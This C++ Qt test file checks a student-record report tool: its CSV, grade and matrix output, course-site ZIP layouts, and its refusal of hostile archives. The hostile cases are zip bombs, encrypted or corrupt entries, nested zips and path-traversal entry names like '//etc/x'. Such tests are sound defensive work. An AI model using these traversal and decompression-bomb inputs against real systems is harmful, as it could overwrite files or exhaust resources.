// SPDX-License-Identifier: MIT
#include "bank/assignmentcontent.h"
#include "generatedclass.h"
#include "records/codepage.h"
#include "records/recordcomposition.h"
#include "report/recordfilename.h"
#include "report/reportcommand.h"
#include "report/workbookwriter.h"
#include "reportapp/folderorzipdialog.h"
#include "ziparchives.h"

#include <QDateTime>
#include <QDir>
#include <QDirIterator>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>

#include <cstring>

#ifndef Q_OS_WIN
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>
#endif

namespace {

struct Outcome
{
    int status = -1;
    QString out;
    QString err;
};

// The Python with openpyxl that reads workbooks back: Debian's, not a user's own Python on the
// PATH that lacks it. None in the Windows build: a Linux program cannot be started from there.
QString workbookReader()
{
#ifdef Q_OS_WIN
    return {};
#else
    return QFileInfo::exists(QStringLiteral("/usr/bin/python3"))
               ? QStringLiteral("/usr/bin/python3")
               : QStandardPaths::findExecutable(QStringLiteral("python3"));
#endif
}

// `asUser`: as an ordinary user, so that file permissions hold even when the suite runs as
// root (as CI does).
Outcome runReport(const QStringList &arguments, bool asUser = false,
                  const QProcessEnvironment &environment = QProcessEnvironment::systemEnvironment(),
                  const QString &workingDirectory = {})
{
    QProcess process;
    process.setProcessEnvironment(environment);
    process.setWorkingDirectory(workingDirectory);
#ifdef Q_OS_WIN
    const bool root = false;
#else
    const bool root = geteuid() == 0;
#endif
    if (asUser && root) {
        process.start(QStringLiteral("setpriv"), QStringList{QStringLiteral("--reuid=nobody"),
                                                             QStringLiteral("--regid=nogroup"),
                                                             QStringLiteral("--clear-groups"),
                                                             QStringLiteral(BEXLORIN_REPORT)} +
                                                     arguments);
    } else {
        process.start(QStringLiteral(BEXLORIN_REPORT), arguments);
    }
    Outcome outcome;
    if (!process.waitForFinished(120000) || process.exitStatus() != QProcess::NormalExit)
        return outcome;
    outcome.status = process.exitCode();
    outcome.out = QString::fromUtf8(process.readAllStandardOutput());
    outcome.err = QString::fromUtf8(process.readAllStandardError());
    return outcome;
}

// RFC 4180 as a spreadsheet reads it: quoted fields may hold commas, quotes and line breaks.
QList<QStringList> readCsv(const QByteArray &bytes, QString *error)
{
    if (!bytes.startsWith("\xEF\xBB\xBF")) {
        *error = QStringLiteral("no byte-order mark");
        return {};
    }
    const QString text = QString::fromUtf8(bytes.mid(3));
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"' && field.isEmpty()) {
            quoted = true;
        } else if (c == u',') {
            row.append(field);
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            row.append(field);
            field.clear();
            rows.append(row);
            row.clear();
            ++i;
        } else if (c == u'\r' || c == u'\n' || c == u'"') {
            *error = QStringLiteral("bare %1 outside quotes at character %2").arg(c).arg(i);
            return {};
        } else {
            field += c;
        }
    }
    if (!row.isEmpty() || !field.isEmpty())
        *error = QStringLiteral("the last row does not end in CR LF");
    return rows;
}

QByteArray bytesOf(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

QList<QStringList> readCsvFile(const QString &path)
{
    QString error;
    const QList<QStringList> rows = readCsv(bytesOf(path), &error);
    return error.isEmpty() ? rows : QList<QStringList>();
}

QString kindText(report::RecordKind kind)
{
    switch (kind) {
    case report::RecordKind::Question:
        return QStringLiteral("question");
    case report::RecordKind::Answer:
        return QStringLiteral("answer");
    case report::RecordKind::Note:
        return QStringLiteral("note");
    case report::RecordKind::Response:
        break;
    }
    return QStringLiteral("response");
}

struct FileState
{
    QByteArray bytes;
    QDateTime modified;
    QFile::Permissions permissions;
    bool operator==(const FileState &) const = default;
};

// Every file below `folder`, by its path from there.
QMap<QString, FileState> stateOf(const QString &folder)
{
    QMap<QString, FileState> state;
    const QDir dir(folder);
    QDirIterator each(folder, QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
    while (each.hasNext()) {
        const QFileInfo info(each.next());
        QFile file(info.filePath());
        file.open(QIODevice::ReadOnly);
        state.insert(dir.relativeFilePath(info.filePath()),
                     {file.readAll(), info.lastModified(), info.permissions()});
    }
    return state;
}

// Where a course site puts a send file of `student` (site number `id`), the `n`th it hands out,
// by the layout's name.
QString placed(const QString &layout, const QString &file, const QString &student, int id, int n)
{
    const QStringList words = student.split(u' ');
    const QString lastFirst =
        (words.last() + words.mid(0, words.size() - 1).join(QString())).toLower();
    if (layout.startsWith(u"Moodle"))
        return QStringLiteral("%1_%2_assignsubmission_file_%3%4")
            .arg(student)
            .arg(9100 + id)
            .arg(layout.endsWith(u"flattened") ? QString() : QStringLiteral("/"), file);
    if (layout == u"Canvas")
        return QStringLiteral("%1%2_%3_%4_%5")
            .arg(lastFirst, student == u"Eve Gray" ? QStringLiteral("_LATE") : QString())
            .arg(100 + id)
            .arg(77000 + n)
            .arg(file);
    if (layout == u"Blackboard")
        return QStringLiteral("Homework 1_%1_attempt_2026-03-%2-10-11-12_%3")
            .arg(lastFirst)
            .arg(file.mid(7, 2), file);
    return file; // Windows' compressed folder keeps the names
}

// The students × assignments matrix printed first: its rows by student, their cells after.
QMap<QString, QStringList> matrixOf(const QString &out)
{
    const QRegularExpression gap(QStringLiteral("  +"));
    QMap<QString, QStringList> rows;
    const QStringList lines = QString(out).remove(u'\r').split(u'\n');
    for (qsizetype i = 2; i < lines.size() && !lines[i].isEmpty(); ++i) {
        const QStringList cells = lines[i].split(gap);
        rows.insert(cells.first(), cells.mid(1));
    }
    return rows;
}

// What a site's export names a student by, for a layout of placed(): Moodle's participant
// id, Canvas's user id, Blackboard's username. Empty where the site adds none.
QPair<QString, QString> siteIdColumn(const QString &layout, const QString &student, int id)
{
    const QStringList words = student.split(u' ');
    if (layout.startsWith(u"Moodle"))
        return {QStringLiteral("Identifier"), QStringLiteral("Participant %1").arg(9100 + id)};
    if (layout == u"Canvas")
        return {QStringLiteral("ID"), QString::number(100 + id)};
    if (layout == u"Blackboard")
        return {QStringLiteral("Username"),
                (words.last() + words.mid(0, words.size() - 1).join(QString())).toLower()};
    return {};
}
} // namespace

class TestReportCommand : public QObject
{
    Q_OBJECT

    QTemporaryDir records_;
    QTemporaryDir outputs_;
    QList<WalkedRun> walks_;

    QString output(const QString &name) const { return outputs_.filePath(name); }

private slots:
    void initTestCase()
    {
        QVERIFY(records_.isValid());
        QVERIFY(outputs_.isValid());
        // Two students, two runs each on the same day: each send file holds two runs.
        walks_.append(walkAssignment(records_.path(), QStringLiteral("Sam Student"), 1, 0,
                                     QTime(8, 0, 11), 9));
        walks_.append(walkAssignment(records_.path(), QStringLiteral("Sam Student"), 2, 5,
                                     QTime(10, 30, 47), 13));
        walks_.append(walkAssignment(records_.path(), QStringLiteral("Kim O Doe"), 3, 2,
                                     QTime(13, 15, 5), 21));
        walks_.append(walkAssignment(records_.path(), QStringLiteral("Kim O Doe"), 4, 7,
                                     QTime(15, 2, 59), 4));
        for (const WalkedRun &walk : walks_)
            QVERIFY(!walk.expected.isEmpty());
    }

    // The scripted session's files through the command as a process: the CSV holds every
    // typed response and rating exactly, in the order typed, for the send and master files.
    void csvHoldsWhatWasTyped()
    {
        const QString csvPath = output(QStringLiteral("records.csv"));
        const Outcome outcome = runReport({QStringLiteral("--csv"), csvPath, records_.path()});
        QVERIFY2(outcome.status == 0, qPrintable(outcome.err));
        QFile csvFile(csvPath);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        QString error;
        const QList<QStringList> rows = readCsv(csvFile.readAll(), &error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
        QVERIFY(!rows.isEmpty());
        QCOMPARE(rows.first().size(), 13);
        QCOMPARE(rows.first().at(10), QStringLiteral("response"));
        // The notes' own stamp, in the last column.
        for (const QStringList &row : rows.mid(1)) {
            QCOMPARE(row.at(12).isEmpty(), row.at(6) != u"note");
            QVERIFY(row.at(12).isEmpty() || row.at(12).startsWith(QStringLiteral("03-03-2026 ")));
        }

        for (const char *kind : {"send", "master"}) {
            for (const QString &student :
                 {QStringLiteral("Sam Student"), QStringLiteral("Kim O Doe")}) {
                QList<QStringList> mine;
                QString path;
                for (const WalkedRun &walk : walks_) {
                    if (walk.master.contains(QString(student).replace(u' ', u'_')))
                        path = qstrcmp(kind, "send") == 0 ? walk.send : walk.master;
                }
                for (const QStringList &row : rows) {
                    if (row.at(0) == student &&
                        QFileInfo(row.at(1)).fileName() == QFileInfo(path).fileName())
                        mine.append(row);
                }
                QList<report::Record> expected;
                QList<int> codeNumbers;
                for (const WalkedRun &walk : walks_) {
                    if (walk.master.contains(QString(student).replace(u' ', u'_'))) {
                        expected += walk.expected;
                        for (qsizetype i = 0; i < walk.expected.size(); ++i)
                            codeNumbers.append(walk.codeNumber);
                    }
                }
                QCOMPARE(mine.size(), expected.size());
                for (qsizetype i = 0; i < mine.size(); ++i) {
                    const QStringList &row = mine[i];
                    const report::Record &want = expected[i];
                    QCOMPARE(row.at(3),
                             QStringLiteral("%1").arg(want.assignment, 3, 10, QChar(u'0')));
                    QCOMPARE(row.at(4), QString::number(codeNumbers[i]));
                    QCOMPARE(row.at(5), QString::number(want.question));
                    QCOMPARE(row.at(6), kindText(want.kind));
                    QCOMPARE(row.at(8), want.ratingTyped);
                    QCOMPARE(row.at(9), want.rating ? QString::number(*want.rating) : QString());
                    QCOMPARE(row.at(10), want.response);
                }
            }
        }
    }

    // The table: one row per run, with the run's code number and the questions answered (a
    // response that is not empty); below the students × assignments matrix.
    void tableOnTheTerminal()
    {
        const Outcome outcome = runReport({records_.path()});
        QVERIFY2(outcome.status == 0, qPrintable(outcome.err));
        const QStringList all = outcome.out.split(u'\n', Qt::SkipEmptyParts);
        const qsizetype table = all.indexOf(QRegularExpression(QStringLiteral("student +file.*")));
        QVERIFY(table > 0);
        const QStringList lines = all.mid(table);
        QCOMPARE(lines.size(), 2 + 2 * walks_.size()); // headers, rule, master and send runs
        for (const WalkedRun &walk : walks_) {
            const QString student = QFileInfo(walk.master).baseName().mid(11).replace(u'_', u' ');
            const QString row = QStringLiteral("%1 +send +%2 +").arg(student, walk.date);
            const QString answered = QStringLiteral("  %1 of %2  ")
                                         .arg(answeredIn(walk))
                                         .arg(report::QuestionIndex(bank::assignmentContent())
                                                  .questionCount(walk.expected.first().assignment));
            QVERIFY(std::any_of(lines.begin(), lines.end(), [&](const QString &line) {
                return line.contains(QRegularExpression(row)) &&
                       line.contains(QStringLiteral("  %1  ").arg(walk.codeNumber)) &&
                       line.contains(answered);
            }));
        }
        // Ratings that are no number are noted, never failed on: counted per file and kind,
        // listed with --verbose.
        QVERIFY2(outcome.err.contains(QRegularExpression(
                     QStringLiteral("send_0303Sam_Student.txt: note \\(\\d+×\\): the rating "
                                    "\"…\" is not a number"))),
                 qPrintable(outcome.err));
        QVERIFY(!outcome.err.contains(QStringLiteral("pretty sure")));
        const Outcome verbose = runReport({QStringLiteral("--verbose"), records_.path()});
        QVERIFY(verbose.err.contains(QStringLiteral("note: the rating \"pretty sure\"")));
        QVERIFY(runReport({QStringLiteral("--quiet"), records_.path()}).out.isEmpty());
    }

    // A generated class: the matrix cell by cell against what was generated, the statistics
    // question by question, and each run counted once whatever files hold it.
    void classMatrixAndStatistics()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const GeneratedClass made = generateClass(dir.path());
        const report::QuestionIndex index(bank::assignmentContent());
        QFile roster(output(QStringLiteral("roster.txt")));
        QVERIFY(roster.open(QIODevice::WriteOnly));
        roster.write(made.roster.join(u'\n').toUtf8() + '\n');
        roster.close();
        QStringList arguments{QStringLiteral("--roster"), roster.fileName(),
                              QStringLiteral("--questions")};
        for (auto it = made.due.constBegin(); it != made.due.constEnd(); ++it)
            arguments << QStringLiteral("--due")
                      << QStringLiteral("%1=%2").arg(it.key()).arg(
                             it.value().toString(Qt::ISODate));
        // The statistics go to the workbook's second sheet as well, read back by openpyxl.
        const QString xlsxPath = output(QStringLiteral("class.xlsx"));
        const QString python = workbookReader();
        const bool workbook = report::WorkbookWriter::available() && !python.isEmpty();
        if (workbook)
            arguments << QStringLiteral("--xlsx") << xlsxPath;
        const QString gradesPath = output(QStringLiteral("grades.csv"));
        const Outcome outcome = runReport(QStringList(arguments) << QStringLiteral("--grades")
                                                                 << gradesPath << dir.path());
        QVERIFY2(outcome.status == 0, qPrintable(outcome.err));
        // The list written back with a header and the marks of the best run (Ann's second of
        // assignment 1, her late 2, Bo's unfinished 1), and read as the roster, the same matrix.
        QFile grades(gradesPath);
        QVERIFY(grades.open(QIODevice::ReadOnly));
        const int bo = made.cells[QStringLiteral("Bo Chan")][1].section(u' ', 1, 1).toInt();
        QCOMPARE(QString::fromUtf8(grades.readAll()).split(u'\n'),
                 (QStringList{QStringLiteral("name,Bexlorin 001,Bexlorin 002"),
                              QStringLiteral("Ann_Lee,%1,%2")
                                  .arg(index.questionCount(1))
                                  .arg(index.questionCount(2)),
                              QStringLiteral("bo chan,%1,").arg(bo),
                              QStringLiteral("Cy Diaz,%1,%2")
                                  .arg(index.questionCount(1))
                                  .arg(index.questionCount(2)),
                              QStringLiteral("Dee Fox,,"), QString()}));
        arguments[1] = gradesPath;
        const Outcome reread = runReport(arguments << dir.path());
        QCOMPARE(reread.out.section(QStringLiteral("\n\n"), 0, 0),
                 outcome.out.section(QStringLiteral("\n\n"), 0, 0));
        QJsonArray sheet;
        if (workbook) {
            QProcess reader;
            reader.start(python,
                         {QFINDTESTDATA("workbookcells.py"), xlsxPath, QStringLiteral("1")});
            QVERIFY(reader.waitForFinished(120000));
            QVERIFY2(reader.exitCode() == 0, reader.readAllStandardError());
            sheet = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
        }

        // Line ends as the terminal gets them: CR LF on Windows.
        const QStringList lines = QString(outcome.out).remove(u'\r').split(u'\n');
        const QRegularExpression gap(QStringLiteral("  +"));
        QCOMPARE(
            lines.first().split(gap),
            (QStringList{QStringLiteral("student"), QStringLiteral("001"), QStringLiteral("002")}));
        for (qsizetype s = 0; s < made.roster.size(); ++s) {
            const QStringList cells = lines.at(2 + s).split(gap);
            const QString name = QString(made.roster[s]).replace(u'_', u' ');
            QCOMPARE(cells.first(), name);
            for (const QString &student : made.cells.keys()) {
                if (student.compare(name, Qt::CaseInsensitive) == 0) {
                    QCOMPARE(cells.at(1), made.cells[student][1]);
                    QCOMPARE(cells.at(2), made.cells[student][2]);
                }
            }
        }
        QCOMPARE(lines.at(2 + made.roster.size()),
                 QStringLiteral("not on the roster: ") + made.notOnRoster.join(u", "));
        // Each attachment saved twice is noted once, as the copy.
        const QStringList again =
            outcome.err.split(u'\n').filter(QStringLiteral(": note (1×): the same run as in"));
        QCOMPARE(again.size(), made.resent.size());
        for (qsizetype i = 0; i < again.size(); ++i)
            QVERIFY2(again[i].contains(made.resent[i] + QStringLiteral(": note")),
                     qPrintable(again[i]));
        QVERIFY(!outcome.out.contains(QStringLiteral("Diaz (1)")));
        // A notes file named directly: each note keeps its assignment and the day of its stamp.
        const QString notesCsv = output(QStringLiteral("notes.csv"));
        QCOMPARE(runReport({QStringLiteral("--csv"), notesCsv,
                            dir.filePath(QStringLiteral("notes_Ann_Lee.txt"))})
                     .status,
                 0);
        QFile notes(notesCsv);
        QVERIFY(notes.open(QIODevice::ReadOnly));
        QString error;
        const QList<QStringList> noteRows = readCsv(notes.readAll(), &error);
        QVERIFY(noteRows.size() > 2);
        for (const QStringList &row : noteRows.mid(1)) {
            QCOMPARE(row.at(2), row.at(12).left(10));
            QCOMPARE(row.at(3),
                     row.at(2) == u"03-03-2026" ? QStringLiteral("001") : QStringLiteral("002"));
        }

        // What each question must show, from the records generated.
        QMap<QPair<int, int>, QList<int>> sums; // answered, confidence, count, self, count, low
        QMap<int, int> runs;
        for (const WalkedRun &walk : made.counted) {
            const int assignment = walk.expected.first().assignment;
            ++runs[assignment];
            QMap<int, int> confidence, selfCritique;
            QSet<int> answered;
            for (const report::Record &record : walk.expected) {
                if (record.kind == report::RecordKind::Question) {
                    if (!record.response.trimmed().isEmpty())
                        answered.insert(record.question);
                    if (record.rating)
                        confidence[record.question] = *record.rating;
                } else if (record.kind == report::RecordKind::Answer && record.rating) {
                    selfCritique[record.question] = *record.rating;
                }
            }
            for (int q = 1; q <= index.questionCount(assignment); ++q) {
                QList<int> &sum = sums[{assignment, q}];
                sum.resize(6);
                sum[0] += answered.contains(q) ? 1 : 0;
                sum[1] += confidence.value(q);
                sum[2] += confidence.contains(q) ? 1 : 0;
                sum[3] += selfCritique.value(q);
                sum[4] += selfCritique.contains(q) ? 1 : 0;
                sum[5] += selfCritique.value(q, 3) <= 1 ? 1 : 0;
            }
        }
        const qsizetype first =
            lines.indexOf(QRegularExpression(QStringLiteral("assignment +question.*"))) + 2;
        QVERIFY(first > 2);
        const auto mean = [](int sum, int count) {
            return count > 0 ? QString::number(double(sum) / count, 'f', 2) : QStringLiteral("-");
        };
        for (auto it = sums.constBegin(); it != sums.constEnd(); ++it) {
            const QStringList cells =
                lines.at(first + std::distance(sums.constBegin(), it)).split(gap);
            const QList<int> &sum = it.value();
            QCOMPARE(cells.at(0).toInt(), it.key().first);
            QCOMPARE(cells.at(1).toInt(), it.key().second);
            QCOMPARE(cells.at(2), QStringLiteral("%1 of %2").arg(sum[0]).arg(runs[it.key().first]));
            QCOMPARE(cells.at(3), mean(sum[1], sum[2]));
            QCOMPARE(cells.at(4), mean(sum[3], sum[4]));
            QCOMPARE(cells.at(5), sum[4] > 0
                                      ? QStringLiteral("%1 %").arg(qRound(100.0 * sum[5] / sum[4]))
                                      : QStringLiteral("-"));
            if (!workbook)
                continue;
            const auto text = [&](int column, int decimals) {
                const QString value = sheet[1 + std::distance(sums.constBegin(), it)]
                                          .toArray()[column]
                                          .toArray()[1]
                                          .toString();
                return value.isEmpty() ? QStringLiteral("-")
                                       : QString::number(value.toDouble(), 'f', decimals);
            };
            QCOMPARE(text(0, 0), QString::number(it.key().first));
            QCOMPARE(text(1, 0), QString::number(it.key().second));
            QCOMPARE(text(3, 0), QString::number(runs[it.key().first]));
            QCOMPARE(text(4, 0), QString::number(sum[0]));
            QCOMPARE(text(5, 2), mean(sum[1], sum[2]));
            QCOMPARE(text(6, 2), mean(sum[3], sum[4]));
            QCOMPARE(text(7, 4), sum[4] > 0 ? QString::number(double(sum[5]) / sum[4], 'f', 4)
                                            : QStringLiteral("-"));
        }
    }

    // The class as course sites hand it out, in folders and as their .zip (with a student
    // whose name is beyond ASCII, and one archive as Windows' compressed folder writes names):
    // the same students, runs and CSV rows (the file aside) as the plain send files in a
    // folder, and nothing written beside the inputs, in the working folder or in TMPDIR.
    void courseSiteLayouts_data()
    {
        QTest::addColumn<QString>("layout");
        QTest::addColumn<bool>("zipped");
        for (const char *layout :
             {"Moodle, a folder per submission", "Moodle, flattened", "Canvas", "Blackboard"}) {
            QTest::newRow(layout) << QString::fromLatin1(layout) << false;
            QTest::addRow("%s, as its .zip", layout) << QString::fromLatin1(layout) << true;
        }
        QTest::newRow("compressed folder, DOS code-page names")
            << QStringLiteral("compressed folder") << true;
    }
    void courseSiteLayouts()
    {
        QFETCH(QString, layout);
        QFETCH(bool, zipped);
        QTemporaryDir plain, site, elsewhere;
        QVERIFY(plain.isValid() && site.isValid() && elsewhere.isValid());
        generateClass(plain.path());
        walkAssignment(plain.path(), QStringLiteral("Zoë Ruiz"), 1, 4, QTime(11, 0, 5), 9);
        QList<ZipItem> entries;
        QStringList students;
        for (const QFileInfo &info : QDir(plain.path()).entryInfoList(QDir::Files, QDir::Name)) {
            if (!info.fileName().startsWith(QStringLiteral("send_"))) {
                QVERIFY(QFile::remove(info.filePath()));
                continue;
            }
            const QString student = report::RecordFileName::of(info.fileName()).student;
            if (!students.contains(student))
                students.append(student);
            const QString name = placed(layout, info.fileName(), student,
                                        int(students.indexOf(student)), int(entries.size()));
            entries.append(
                {name.toUtf8(), bytesOf(info.filePath()), 0, layout == u"compressed folder"});
            if (entries.last().cp437)
                entries.last().name = cp437(name);
            const QByteArray receipt = name.section(u'_', 0, 3).toUtf8() + ".txt";
            if (layout == u"Blackboard" && // the site's receipt of each attempt
                std::none_of(entries.begin(), entries.end(),
                             [&](const ZipItem &entry) { return entry.name == receipt; }))
                entries.append(ZipItem{receipt, "Receipt\r\n"});
        }
        if (layout == u"Blackboard")
            entries.append(ZipItem{"index.html", "<html></html>"});
        const qsizetype others =
            std::count_if(entries.begin(), entries.end(),
                          [](const ZipItem &entry) { return !entry.name.contains("send_"); });
        QVERIFY(students.contains(QStringLiteral("Zoë Ruiz")));
        QString input = site.filePath(QStringLiteral("submissions.zip"));
        if (zipped) {
            QVERIFY(writeZip(input, entries));
            if (layout == u"compressed folder") // found in the folder named, not named itself
                input = site.path();
        } else {
            input = site.path();
            for (const ZipItem &entry : std::as_const(entries)) {
                const QString path = site.filePath(QString::fromUtf8(entry.name));
                QVERIFY(QDir().mkpath(QFileInfo(path).path()));
                QFile file(path);
                QVERIFY(file.open(QIODevice::WriteOnly));
                file.write(entry.bytes);
            }
        }
        const QMap<QString, FileState> before = stateOf(site.path());
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        environment.insert(QStringLiteral("TMPDIR"), elsewhere.path());
        environment.insert(QStringLiteral("TMP"), elsewhere.path());
        environment.insert(QStringLiteral("TEMP"), elsewhere.path());
        const QString csv = output(QStringLiteral("layout.csv"));
        const Outcome got =
            runReport({QStringLiteral("--csv"), csv, input}, false, environment, elsewhere.path());
        const QList<QStringList> rows = readCsvFile(csv);
        const Outcome want = runReport({QStringLiteral("--csv"), csv, plain.path()});
        const QList<QStringList> wanted = readCsvFile(csv);
        QVERIFY2(got.status == want.status, qPrintable(got.err));
        QCOMPARE(got.out, want.out);
        QCOMPARE(rows.size(), wanted.size());
        QVERIFY(rows.size() > 100);
        for (qsizetype r = 0; r < rows.size(); ++r) {
            QCOMPARE(rows[r].mid(0, 1) + rows[r].mid(2), wanted[r].mid(0, 1) + wanted[r].mid(2));
            QVERIFY(r == 0 || rows[r][1].contains(QStringLiteral("send_")));
        }
        // A site's other files: one counted notice, never read as records.
        QCOMPARE(
            got.err.contains(QStringLiteral("%1 file(s) here are not record files").arg(others)),
            others > 0);
        QCOMPARE(stateOf(site.path()), before);
        QCOMPARE(QDir(elsewhere.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot),
                 QStringList());

        // The site's own export as the roster, naming every student otherwise than their
        // files do: each line is matched by the site's id alone, to that student's runs.
        if (siteIdColumn(layout, students.first(), 0).first.isEmpty())
            return;
        const QString roster = output(QStringLiteral("site-roster.csv"));
        QFile rosterFile(roster);
        QVERIFY(rosterFile.open(QIODevice::WriteOnly | QIODevice::Truncate));
        rosterFile.write(QStringLiteral("Student,%1\r\n")
                             .arg(siteIdColumn(layout, students[0], 0).first)
                             .toUtf8());
        for (qsizetype i = 0; i < students.size(); ++i)
            rosterFile.write(QStringLiteral("\"Known, As %1\",%2\r\n")
                                 .arg(i)
                                 .arg(siteIdColumn(layout, students[i], int(i)).second)
                                 .toUtf8());
        rosterFile.close();
        const Outcome matched = runReport({QStringLiteral("--roster"), roster, input});
        const QMap<QString, QStringList> found = matrixOf(want.out), byId = matrixOf(matched.out);
        QCOMPARE(byId.size(), students.size());
        for (qsizetype i = 0; i < students.size(); ++i)
            QCOMPARE(byId.value(QStringLiteral("Known, As %1").arg(i)), found.value(students[i]));
        QVERIFY2(!matched.out.contains(QStringLiteral("not on the roster")),
                 qPrintable(matched.out));
    }

    // Archives no course site writes: each refused with a message naming the archive and the
    // entry, in bounded time and memory (measured in bench_report), the other entries still
    // read; nothing is ever unpacked, not even by a name that leads out of the archive.
    void hostileArchives_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<int>("status");
        QTest::addColumn<QString>("says");
        const QStringList says{
            QStringLiteral("send_0303Zero.txt: problem: the entry unpacks to 1024 MiB, over the "
                           "128 MiB"),
            QStringLiteral("send_0303Liar.txt: problem: not read whole: the entry holds more "
                           "than the 1000 bytes"),
            QStringLiteral("send_0303Kim_O_Doe.txt: problem: the entry is encrypted"),
            QStringLiteral("send_0303Kim_O_Doe.txt: problem: not read whole: CRC error"),
            QStringLiteral("hostile.zip: problem: the archive is cut short (its table of "
                           "entries, at its end, is missing): the entry before byte"),
            QStringLiteral("/../../x: problem: the entry's name leads out of the archive"),
            QStringLiteral("//etc/x: problem: the entry's name leads out of the archive"),
            QStringLiteral("inner.zip: problem: a zip inside the zip"),
            QStringLiteral("send_0303Kim_O_Doe.txt: problem: the course site (Moodle) names the "
                           "student \"Bo Chan\", the file's name \"Kim O Doe\"")};
        const QStringList kinds = hostileArchiveKinds();
        for (qsizetype i = 0; i < kinds.size(); ++i)
            QTest::newRow(qPrintable(kinds[i]))
                << kinds[i] << (kinds[i].contains(u"disagree") ? 1 : 2) << says[i];
    }
    void hostileArchives()
    {
        QFETCH(QString, kind);
        QFETCH(int, status);
        QFETCH(QString, says);
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString archive = dir.filePath(QStringLiteral("hostile.zip"));
        QVERIFY(
            writeHostileArchive(kind, archive, bytesOf(walks_[0].send), bytesOf(walks_[2].send)));
        const QString deep = dir.filePath(QStringLiteral("a/b"));
        QVERIFY(QDir().mkpath(deep));
        const bool etcHadIt = QFileInfo::exists(QStringLiteral("/etc/x"));
        const QMap<QString, FileState> before = stateOf(dir.path());
        const Outcome outcome =
            runReport({archive}, false, QProcessEnvironment::systemEnvironment(), deep);
        QCOMPARE(outcome.status, status);
        QVERIFY2(QDir::fromNativeSeparators(outcome.err).contains(says), qPrintable(outcome.err));
        // Refused unread, the entry makes no other problem; one cut off while read may leave
        // an incomplete record as well.
        if (!says.contains(QStringLiteral("not read whole")))
            QCOMPARE(outcome.err.count(QStringLiteral(": problem: ")), 1);
        // The good entry beside it is read, even before the cut of an archive cut short.
        QVERIFY2(outcome.out.contains(QStringLiteral("Sam Student  send")),
                 qPrintable(outcome.out));
        QCOMPARE(stateOf(dir.path()), before);
        QCOMPARE(QFileInfo::exists(QStringLiteral("/etc/x")), etcHadIt);
    }

    // The folder dialog of the desktop entry takes a course site's .zip as well as a folder.
    void folderDialogTakesAZip()
    {
#if defined(__SANITIZE_THREAD__)
        // Qt's file dialog reads folders on its own, uninstrumented thread, which this
        // sanitizer can only misjudge; and a process started after it would die at fork.
        QSKIP("the dialog's threads belong to Qt, not to the reader");
#endif
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString archive = dir.filePath(QStringLiteral("submissions.zip"));
        QVERIFY(writeZip(archive, {{"send_0303Sam_Student.txt", bytesOf(walks_[0].send)}}));
        QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("class")));
        for (const QString &chosen : {archive, dir.filePath(QStringLiteral("class"))}) {
            reportapp::FolderOrZipDialog dialog(dir.path());
            dialog.selectFile(chosen);
            dialog.accept();
            QCOMPARE(dialog.result(), int(QDialog::Accepted));
            QCOMPARE(QFileInfo(dialog.chosen()), QFileInfo(chosen));
        }
        QCOMPARE(report::reportcommand::htmlPathForFolder(archive, outputs_.path()),
                 output(QStringLiteral("bexlorin-report.html")));
    }

    // A run dated on its assignment's due date is on time; only a later day is late.
    void dueDate_data()
    {
        QTest::addColumn<QString>("due");
        QTest::addColumn<bool>("late");
        QTest::newRow("due the day before") << QStringLiteral("2026-03-02") << true;
        QTest::newRow("due that day") << QStringLiteral("2026-03-03") << false;
        QTest::newRow("due the day after") << QStringLiteral("2026-03-04") << false;
    }

    void dueDate()
    {
        QFETCH(QString, due);
        QFETCH(bool, late);
        const WalkedRun &walk = walks_.first(); // assignments 1 and 2, run on 03-03-2026
        const Outcome outcome =
            runReport({QStringLiteral("--due"), QStringLiteral("1=") + due, walk.send});
        QVERIFY2(outcome.status == 0, qPrintable(outcome.err));
        const QStringList lines = QString(outcome.out).remove(u'\r').split(u'\n');
        QCOMPARE(lines.value(0).split(QRegularExpression(QStringLiteral("  +"))).mid(0, 2),
                 (QStringList{QStringLiteral("student"), QStringLiteral("001")}));
        const QStringList cells = lines.value(2).split(QRegularExpression(QStringLiteral("  +")));
        QCOMPARE(cells.value(0), QStringLiteral("Sam Student"));
        QCOMPARE(cells.value(1).startsWith(QStringLiteral("late")), late);
        QVERIFY(!cells.value(1).isEmpty() && cells.value(1) != u"missing");
    }

    void exitStatus_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("status");
        QTest::addColumn<QString>("says");
        QTest::newRow("help") << QStringList{QStringLiteral("--help")} << 0
                              << QStringLiteral("--csv <file>");
        QTest::newRow("help sends spreadsheets to the workbook")
            << QStringList{QStringLiteral("--help")} << 0
            << QStringLiteral("For a spreadsheet program open the .xlsx (--xlsx), not the CSV");
        QTest::newRow("version") << QStringList{QStringLiteral("--version")} << 0
                                 << QStringLiteral("bexlorin-report 1.");
        QTest::newRow("no input") << QStringList{} << 2 << QStringLiteral("name at least one");
        QTest::newRow("unknown option")
            << QStringList{QStringLiteral("--pdf")} << 2 << QStringLiteral("Unknown option");
        QTest::newRow("missing file") << QStringList{QStringLiteral("/nonexistent/send_0303x.txt")}
                                      << 2 << QStringLiteral("no such file");
        QTest::newRow("CSV option without its file")
            << QStringList{QStringLiteral("--csv")} << 2 << QStringLiteral("Missing value");
        QTest::newRow("the same output twice")
